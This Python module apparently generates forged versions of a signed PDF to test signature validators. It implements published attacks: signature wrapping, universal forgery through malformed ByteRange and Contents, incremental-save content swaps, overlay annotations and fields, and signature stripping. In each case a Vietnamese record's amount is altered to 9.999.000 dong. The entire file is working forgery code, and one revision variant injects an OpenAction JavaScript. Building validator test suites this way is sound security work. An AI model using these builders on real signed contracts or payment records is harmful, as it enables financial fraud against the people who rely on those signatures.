"""Attacks on signed PDFs, each built from its description by appending, moving or replacing bytes of a signed file.

The names follow the literature: USF, ISA and SWA (2018, "1 Trillion Dollar Refund"), shadow attacks (2020),
EAA and SSA (2021, "Breaking the Specification: PDF Certification").
"""

import io
import re
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf

FORGED = b"BT /F1 14 Tf 72 760 Td (BIEN BAN SO 15) Tj 0 -24 Td (So tien: 9.999.000 dong) Tj ET"
BYTE_RANGE = re.compile(rb"/ByteRange\s*\[[^\]]*\]")


@dataclass(frozen=True)
class Layout:
    """Where things stand in a document: object numbers and the last cross-reference section."""

    root: int
    page: int
    contents: int
    form: int
    size: int
    startxref: int


def layout_of(data: bytes) -> Layout:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        page = pdf.pages[0]
        contents = page.obj.Contents
        form = pdf.Root.get("/AcroForm")
        size = int(pdf.trailer.Size)
        return Layout(
            pdf.Root.objgen[0],
            page.obj.objgen[0],
            contents.objgen[0],
            form.objgen[0] if form is not None and form.is_indirect else 0,
            size,
            int(data.rsplit(b"startxref", 1)[1].split()[0]),
        )


def body_of(data: bytes, number: int) -> bytes:
    """An object as text, so that it can be written again with changes (streams: the dictionary only)."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return bytes(pdf.get_object(number, 0).unparse(resolved=True))


def stream(content: bytes, entries: bytes = b"") -> bytes:
    return b"<<" + entries + b"/Length %d>>\nstream\n" % len(content) + content + b"\nendstream"


def append(
    data: bytes,
    objects: dict[int, bytes],
    *,
    listed: dict[int, int] | None = None,
    root: int | None = None,
    prev: int | None = -1,
    startxref: int | None = None,
    table: bool = True,
    trailer: bool = True,
    eof: bool = True,
    extra: bytes = b"",
    before_xref: bytes = b"",
) -> bytes:
    """The file with one more incremental update, correct unless told otherwise."""
    place = layout_of(data)
    out = bytearray(data if data.endswith(b"\n") else data + b"\n")
    offsets: dict[int, int] = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    out += before_xref
    offsets = offsets if listed is None else listed
    at = len(out)
    if table:
        out += b"xref\n0 1\n0000000000 65535 f \n"
        for number in sorted(offsets):
            out += b"%d 1\n%010d 00000 n \n" % (number, offsets[number])
    if trailer:
        previous = place.startxref if prev == -1 else prev
        link = b"/Prev %d" % previous if previous is not None else b""
        size = max([place.size, *(number + 1 for number in objects)])
        out += b"trailer\n<</Size %d/Root %d 0 R%s%s>>\n" % (size, root or place.root, link, extra)
    out += b"startxref\n%d\n" % (at if startxref is None else startxref)
    return bytes(out) + (b"%%EOF\n" if eof else b"")


def forged_contents(data: bytes) -> dict[int, bytes]:
    return {layout_of(data).contents: stream(FORGED)}


def with_annotation(data: bytes, annotation: bytes, *more: bytes) -> bytes:
    """One more annotation on page 1 (and further objects, numbered after it)."""
    place = layout_of(data)
    page = body_of(data, place.page)
    number = place.size
    objects = {number: annotation} | {number + 1 + index: body for index, body in enumerate(more)}
    found = re.search(rb"/Annots\s*\[([^\]]*)\]", page)
    if found:
        page = page[: found.start(1)] + found[1] + b" %d 0 R" % number + page[found.end(1) :]
    else:
        page = page.rstrip()[:-2] + b"/Annots [%d 0 R]>>" % number
    return append(data, {place.page: page, **objects})


def paper_cover(number: int) -> tuple[bytes, bytes]:
    """An appearance that lays white paper and another text over the place of the amount."""
    del number
    look = b"1 1 1 rg 0 0 300 40 re f BT 0 g /Helv 14 Tf 2 10 Td (So tien: 9.999.000 dong) Tj ET"
    entries = (
        b"/Type/XObject/Subtype/Form/BBox[0 0 300 40]"
        b"/Resources<</Font<</Helv<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>>>>>"
    )
    return stream(look, entries), b""


def annotation(kind: bytes, appearance: int, extra: bytes = b"") -> bytes:
    return b"<</Type/Annot/Subtype/" + kind + b"/Rect[70 725 370 765]/F 4/AP<</N %d 0 R>>" % appearance + extra + b">>"


def signature_field(data: bytes, *, value: bytes = b"") -> bytes:
    """A signature field (unsigned unless a value is given) whose opaque appearance covers the amount."""
    place = layout_of(data)
    number = place.size
    field = (
        b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Phu_len)/F 132/Rect[70 725 370 765]/AP<</N %d 0 R>>/P %d 0 R"
        % (number + 1, place.page)
        + value
        + b">>"
    )
    page = body_of(data, place.page)
    form = body_of(data, place.form)
    page = re.sub(rb"(/Annots\s*\[[^\]]*)\]", rb"\1 %d 0 R]" % number, page)
    form = re.sub(rb"(/Fields\s*\[[^\]]*)\]", rb"\1 %d 0 R]" % number, form)
    return append(data, {place.page: page, place.form: form, number: field, number + 1: paper_cover(0)[0]})


def field_overlay(data: bytes) -> bytes:
    """A new text field with an opaque appearance over the amount."""
    covered = signature_field(data)
    return covered.replace(b"/FT/Sig/T(Phu_len)", b"/FT/Tx /T(Phu_len)")


def new_byte_range(data: bytes, text: bytes) -> bytes:
    """The first /ByteRange written differently, in the same room."""
    found = BYTE_RANGE.search(data)
    assert found is not None
    room = found.end() - found.start()
    assert len(text) <= room
    return data[: found.start()] + text.ljust(room) + data[found.end() :]


def signature_value(data: bytes) -> tuple[int, int]:
    """Start and end of the hexadecimal value of the first signature, brackets included."""
    numbers = [int(item) for item in re.findall(rb"\d+", BYTE_RANGE.search(data)[0])]  # type: ignore[index]
    return numbers[1], numbers[2]


def swa(data: bytes) -> bytes:
    """Signature wrapping: the signed second part is moved to the end, the room in between is the attacker's."""
    start, end = signature_value(data)
    head, value, tail = data[:start], data[start:end], data[end:]
    place = layout_of(data)
    forged = b"%d 0 obj\n" % place.contents + stream(FORGED) + b"\nendobj\n"
    old_tail_start = len(head) + len(value)
    xref_at_old = place.startxref
    injected = value + b">>\nendobj\n" + forged
    at = len(head) + len(injected)
    forged_at = len(head) + len(value) + len(b">>\nendobj\n")
    injected += b"xref\n0 1\n0000000000 65535 f \n%d 1\n%010d 00000 n \n" % (place.contents, forged_at)
    injected += b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (
        place.size,
        place.root,
        xref_at_old,
        at,
    )
    moved = head + injected + tail
    shift = len(injected) - len(value)
    text = b"/ByteRange [0 %d %d %d]" % (len(head), old_tail_start + shift, len(tail))
    moved = new_byte_range(moved, text)
    return moved + b"startxref\n%d\n%%%%EOF\n" % at


def usf_variants(data: bytes) -> dict[str, bytes]:
    """Universal forgery: the parts that a check needs are missing or senseless, the content is another."""
    start, end = signature_value(data)
    forged = data.replace(b"1.000.000", b"9.999.000")
    found = BYTE_RANGE.search(forged)
    assert found is not None
    room = found.end() - found.start()

    def contents(text: bytes) -> bytes:
        return forged[:start] + text.ljust(end - start) + forged[end:]

    def ranged(text: bytes) -> bytes:
        return forged[: found.start()] + text.ljust(room) + forged[found.end() :]

    marked = forged.rfind(b"/Contents", 0, start)
    return {
        "usf_no_byte_range": ranged(b""),
        "usf_null_byte_range": ranged(b"/ByteRange null"),
        "usf_empty_byte_range": ranged(b"/ByteRange []"),
        "usf_zero_byte_range": ranged(b"/ByteRange [0 0 0 0]"),
        "usf_negative_byte_range": ranged(b"/ByteRange [0 -1 2 -3]"),
        "usf_huge_byte_range": ranged(b"/ByteRange [0 9999999999 9999999999 9]"),
        "usf_text_byte_range": ranged(b"/ByteRange (a)"),
        "usf_six_numbers": ranged(b"/ByteRange [0 1 2 3 4 5]"),
        "usf_empty_contents": contents(b"<>"),
        "usf_zero_contents": contents(b"<00>"),
        "usf_null_contents": contents(b"null"),
        "usf_number_contents": contents(b"7"),
        "usf_no_contents": forged[:marked] + b"/Xontents" + forged[marked + 9 :],
        "usf_zeros": contents(b"<" + b"0" * (end - start - 2) + b">"),
    }


def isa_variants(data: bytes) -> dict[str, bytes]:
    """Incremental saving: another content is appended, the update more or less complete."""
    forged = forged_contents(data)
    whole = layout_of(data)
    return {
        "isa_complete": append(data, forged),
        "isa_empty_xref": append(data, forged, listed={}),
        "isa_empty_xref_no_prev": append(data, forged, listed={}, prev=None),
        "isa_old_startxref": append(data, forged, startxref=whole.startxref),
        "isa_no_xref": append(data, forged, table=False),
        "isa_no_xref_no_trailer": append(data, forged, table=False, trailer=False),
        "isa_no_eof": append(data, forged, eof=False),
        "isa_zero_startxref": append(data, forged, startxref=0),
        "isa_body_only": data + b"\n%d 0 obj\n" % whole.contents + stream(FORGED) + b"\nendobj\n",
        "isa_wrong_offsets": append(data, forged, listed={whole.contents: 17}),
        "isa_prev_skips": append(data, forged, prev=int(data.split(b"startxref", 1)[1].split()[0])),
        "isa_two_xrefs": append(append(data, {}), forged),
        "isa_twice": append(
            data, {whole.size: b"<</A 1>>"}, before_xref=b"%d 0 obj\n" % whole.contents + stream(FORGED) + b"\nendobj\n"
        ),
        "isa_in_comment": data + b"%" + b"startxref\n0\n%%EOF\n",
        "isa_long_comment": data + b"%" + b"x" * 4000 + b"\n",
        "isa_new_root": append(data, {**forged, whole.size: body_of(data, whole.root)}, root=whole.size),
    }


def _catalog_with(data: bytes, entry: bytes, more: dict[int, bytes] | None = None) -> bytes:
    place = layout_of(data)
    body = body_of(data, place.root).rstrip()[:-2] + entry + b">>"
    return append(data, {place.root: body, **(more or {})})


def _page_with(data: bytes, entry: bytes, more: dict[int, bytes] | None = None) -> bytes:
    place = layout_of(data)
    body = body_of(data, place.page).rstrip()[:-2] + entry + b">>"
    return append(data, {place.page: body, **(more or {})})


def _swap_contents(data: bytes) -> bytes:
    place = layout_of(data)
    body = re.sub(rb"/Contents\s+\d+ 0 R", b"/Contents %d 0 R" % place.size, body_of(data, place.page))
    return append(data, {place.page: body, place.size: stream(FORGED)})


def revision_variants(data: bytes) -> dict[str, bytes]:
    """Well-formed updates that change what the document says or does."""
    place = layout_of(data)
    font = int(next(re.finditer(rb"(\d+) 0 obj\s*<<[^>]*?/BaseFont", data))[1])
    return {
        "rev_contents_stream": append(data, forged_contents(data)),
        "rev_contents_key": _swap_contents(data),
        "rev_font": append(data, {font: b"<</Type/Font/Subtype/Type1/BaseFont/ZapfDingbats>>"}),
        "rev_crop": _page_with(data, b"/CropBox[0 0 100 100]"),
        "rev_rotate": _page_with(data, b"/Rotate 90"),
        "rev_page_removed": _pages_emptied(data),
        "rev_open_action": _catalog_with(data, b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "rev_layers": _catalog_with(data, b"/OCProperties<</OCGs[]/D<</Order[]>>>>"),
        "rev_free_contents": _freed(data, place.contents),
        "rev_orphan_catalog": append(data, {place.size: body_of(data, place.root), **forged_as(place.size + 1)}),
    }


def forged_as(number: int) -> dict[int, bytes]:
    return {number: stream(FORGED)}


def _freed(data: bytes, number: int) -> bytes:
    place = layout_of(data)
    out = data if data.endswith(b"\n") else data + b"\n"
    table = b"xref\n0 1\n%010d 65535 f \n%d 1\n0000000000 00001 f \n" % (number, number)
    trailer = b"trailer\n<</Size %d/Root %d 0 R/Prev %d>>\n" % (place.size, place.root, place.startxref)
    return out + table + trailer + b"startxref\n%d\n%%%%EOF\n" % len(out)


def _pages_emptied(data: bytes) -> bytes:
    with pikepdf.open(io.BytesIO(data)) as pdf:
        number = pdf.Root.Pages.objgen[0]
    return append(data, {number: b"<</Type/Pages/Kids[]/Count 0>>"})


def annotation_variants(data: bytes) -> dict[str, bytes]:
    """EAA: annotations laid over the content; and overlays made of fields."""
    number = layout_of(data).size
    look = paper_cover(0)[0]
    kinds = (b"FreeText", b"Stamp", b"Square", b"Redact", b"Line", b"Ink", b"Watermark", b"Screen")
    found = {
        f"eaa_{kind.decode().lower()}": with_annotation(data, annotation(kind, number + 1), look) for kind in kinds
    }
    found["overlay_unsigned_field"] = signature_field(data)
    found["overlay_text_field"] = field_overlay(data)
    found["overlay_fake_value"] = signature_field(data, value=b"/V<</Type/Sig/Filter/Adobe.PPKLite>>")
    return found


def strip_variants(data: bytes) -> dict[str, bytes]:
    """The signature is taken out, by an update or by saving the file anew."""
    place = layout_of(data)
    root = re.sub(rb"/AcroForm\s+\d+ 0 R", b"", body_of(data, place.root))
    with pikepdf.open(io.BytesIO(data)) as pdf:
        field = pdf.Root.AcroForm.Fields[0].objgen[0]
        form = bytes(pdf.Root.AcroForm.unparse(resolved=True))
    no_field = re.sub(rb"/Fields\s*\[[^\]]*\]", b"/Fields []", form)
    no_value = re.sub(rb"/V\s+\d+ 0 R", b"", body_of(data, field))
    return {
        "strip_form": append(data, {place.root: root}),
        "strip_field": append(data, {place.form: no_field}),
        "strip_value": append(data, {field: no_value}),
    }


Builder = Callable[[bytes], dict[str, bytes]]
BUILDERS: tuple[Builder, ...] = (usf_variants, isa_variants, revision_variants, annotation_variants, strip_variants)


def all_attacks(data: bytes) -> dict[str, bytes]:
    """Every attack on one signed file."""
    found: dict[str, bytes] = {"swa": swa(data)}
    for builder in BUILDERS:
        found |= builder(data)
    return found
